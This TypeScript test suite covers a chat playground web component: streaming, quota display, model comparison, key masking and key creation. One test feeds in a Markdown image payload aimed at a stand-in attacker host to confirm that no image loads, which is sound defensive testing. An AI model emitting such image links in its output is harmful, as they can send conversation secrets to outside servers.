import { expect } from 'chai'
import '../../src/widgets/elements/playground/index.ts'
import { expectAccessible, mount, onFetch, rootGateway, until, type TestGateway } from './support.ts'

describe('oneapi-playground', () => {
  let gateway: TestGateway
  before(async () => {
    gateway = await rootGateway({ sample: true })
  })

  const open = async (attributes = '') => {
    const element = await mount(
      `<oneapi-playground lang="en" base-url="${gateway.baseUrl}" ${attributes}></oneapi-playground>`,
    )
    const root = element.shadowRoot!
    const all = <Found extends HTMLElement = HTMLElement>(selector: string) => [
      ...root.querySelectorAll<Found>(selector),
    ]
    await until(() => root.querySelector('[part~=input] textarea'))
    return {
      element,
      root,
      all,
      one: <Found extends HTMLElement = HTMLElement>(selector: string) =>
        root.querySelector<Found>(selector)!,
      async ask(text: string, key = true) {
        const field = root.querySelector<HTMLTextAreaElement>('[part~=input] textarea')!
        Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value')!.set!.call(field, text)
        field.dispatchEvent(new InputEvent('input', { bubbles: true }))
        await until(() => !root.querySelector<HTMLButtonElement>('[part~=send]')?.disabled)
        if (key)
          field.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true }))
        else root.querySelector<HTMLButtonElement>('[part~=send]')!.click()
      },
    }
  }

  it('streams an answer, and shows what the gateway charged for it', async () => {
    const { element, one, all, ask } = await open('model="gpt-4o-mini"')
    const answered = new Promise<CustomEvent<{ model: string; quota: number }>>((resolve) =>
      element.addEventListener('oneapi-chat-answered', (event) => resolve(event as CustomEvent)),
    )
    const seen = new Set<string>()
    const watch = new MutationObserver(() => seen.add(one('[part~=answer]')?.textContent ?? ''))
    watch.observe(element.shadowRoot!, { subtree: true, childList: true, characterData: true })
    await ask('one **two** three four five')
    const { detail } = await answered
    watch.disconnect()
    expect(detail.model).to.equal('gpt-4o-mini')
    expect(detail.quota).to.be.above(0)
    expect(JSON.stringify(detail)).not.to.contain('three')
    // Word by word, and as Markdown at its end.
    expect([...seen].filter((text) => /echo: one/.test(text) && !/five/.test(text)).length).to.be.above(0)
    expect(one('[part~=text] strong').textContent).to.equal('two')
    await until(() => /Tokens: /.test(one('[part~=facts]').textContent))
    const { data } = await gateway.call<{ data: { quota: number; model_name: string }[] }>(
      'GET',
      '/api/log/self?p=0&type=2',
    )
    expect(data[0]).to.include({ model_name: 'gpt-4o-mini', quota: detail.quota })
    expect(one<HTMLTextAreaElement>('[part~=input] textarea').value).to.equal('')
    expect(all('[part~=question]')).to.have.length(1)
    await expectAccessible(element)
  })

  it('sends the conversation, the instructions and the parameters, each model with its own answers', async () => {
    const { one, all, ask, root } = await open('model="gpt-4o-mini" system="Be brief."')
    const bodies: { model: string; messages: { role: string; content: string }[]; temperature?: number }[] =
      []
    const stop = onFetch((call) => {
      if (call.url.pathname.endsWith('/v1/chat/completions')) bodies.push(JSON.parse(call.body) as never)
      return undefined
    })
    one('[part~=compare]').click()
    await until(() => all('[part~=model]').length === 2)
    root.querySelector<HTMLDetailsElement>('.chat-parameters')!.open = true
    const field = root.querySelector<HTMLInputElement>('.chat-parameters input')!
    Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')!.set!.call(field, '0.5')
    field.dispatchEvent(new InputEvent('input', { bubbles: true }))
    await ask('first')
    await until(() => all('[part~=text]').length === 2)
    await ask('second', false)
    await until(() => all('[part~=text]').length === 4)
    stop()
    expect(bodies).to.have.length(4)
    expect(new Set(bodies.map(({ model }) => model)).size).to.equal(2)
    expect(bodies.every(({ temperature }) => temperature === 0.5)).to.equal(true)
    for (const { messages } of bodies.slice(2))
      expect(messages).to.deep.equal([
        { role: 'system', content: 'Be brief.' },
        { role: 'user', content: 'first' },
        { role: 'assistant', content: 'echo: first' },
        { role: 'user', content: 'second' },
      ])
  })

  it('stops, and goes on with what was answered until then', async () => {
    const { one, ask } = await open()
    await ask(Array.from({ length: 400 }, (_, place) => `word${place}`).join(' '))
    await until(() => /word3\b/.test(one('[part~=answer]')?.textContent ?? ''))
    one('[part~=stop]').click()
    await until(() => one('[part~=send]'))
    expect(one('[part~=facts]').textContent).to.contain('Stopped')
    expect(one('[part~=answer]').textContent).not.to.contain('word399')
  })

  it('shows why a call failed, without the key, and asks again', async () => {
    const { one, all, ask } = await open('models="gpt-4o-mini"')
    const { data: keys } = await gateway.call<{ data: { key: string }[] }>(
      'GET',
      '/api/token/search?keyword=',
    )
    let fail = true
    const stop = onFetch((call) => {
      if (!fail || !call.url.pathname.endsWith('/v1/chat/completions')) return undefined
      fail = false
      return Response.json(
        { error: { message: `no quota for ${keys[0]!.key}`, type: 'one_api_error' } },
        { status: 403 },
      )
    })
    await ask('hello')
    await until(() => one('[part~=retry]'))
    expect(one('[part~=answer]').textContent).to.contain('no quota for …')
    one('[part~=retry]').click()
    await until(() => all('[part~=text]').length === 1)
    stop()
    expect(one('[part~=answer]').textContent).to.contain('echo: hello')
  })

  it('shows what an answer cost that broke off', async () => {
    const { one, ask } = await open('models="gpt-4o-mini"')
    const stop = onFetch(async ({ url, send }) => {
      if (!url.pathname.endsWith('/v1/chat/completions')) return undefined
      const whole = await (await send()).text()
      const half = new TextEncoder().encode(whole.slice(0, whole.length / 2))
      const body = new ReadableStream({
        start: (out) => out.enqueue(half),
        pull: (out) => out.error(new TypeError('network error')),
      })
      return new Response(body, { headers: { 'content-type': 'text/event-stream' } })
    })
    await ask('one two three four five six seven eight')
    await until(() => /echo: one/.test(one('[part~=text]')?.textContent ?? ''))
    stop()
    expect(one('[part~=answer]').textContent).to.contain('Cannot connect to the server')
    await until(() => /Tokens: /.test(one('[part~=facts]').textContent))
  })

  it('loads no picture that a model names', async () => {
    const { one, ask } = await open()
    await ask('![x](https://evil.example/?secret) done')
    await until(() => one('[part~=text]'))
    await until(() => /done/.test(one('[part~=text]').textContent))
    expect(one('[part~=text]').querySelector('img')).to.equal(null)
  })

  it('shows the conversation as a program, with the key masked', async () => {
    const { one, ask, root } = await open('hide="settings"')
    await ask('tell me')
    await until(() => one('[part~=text]'))
    ;[...root.querySelectorAll('button')].find(({ textContent }) => textContent === 'As code')!.click()
    await until(() => one('[part~=code] code'))
    const { textContent: code } = one('[part~=code] code')
    expect(code).to.contain('tell me').and.to.contain('echo: tell me').and.to.contain('•')
    expect(root.querySelector('[part~=settings]')).to.equal(null)
  })

  it('needs a key, and makes one', async () => {
    const bare = await rootGateway()
    const { data } = await bare.call<{ data: { id: number }[] }>('GET', '/api/token/?p=0')
    for (const { id } of data) await bare.call('DELETE', `/api/token/${id}`)
    const element = await mount(
      `<oneapi-playground lang="en" base-url="${bare.baseUrl}"></oneapi-playground>`,
    )
    await until(() => element.shadowRoot!.querySelector('[part~=create-key]'))
    element.shadowRoot!.querySelector<HTMLButtonElement>('[part~=create-key]')!.click()
    await until(() => element.shadowRoot!.querySelector('[part~=input]'))
  })
})
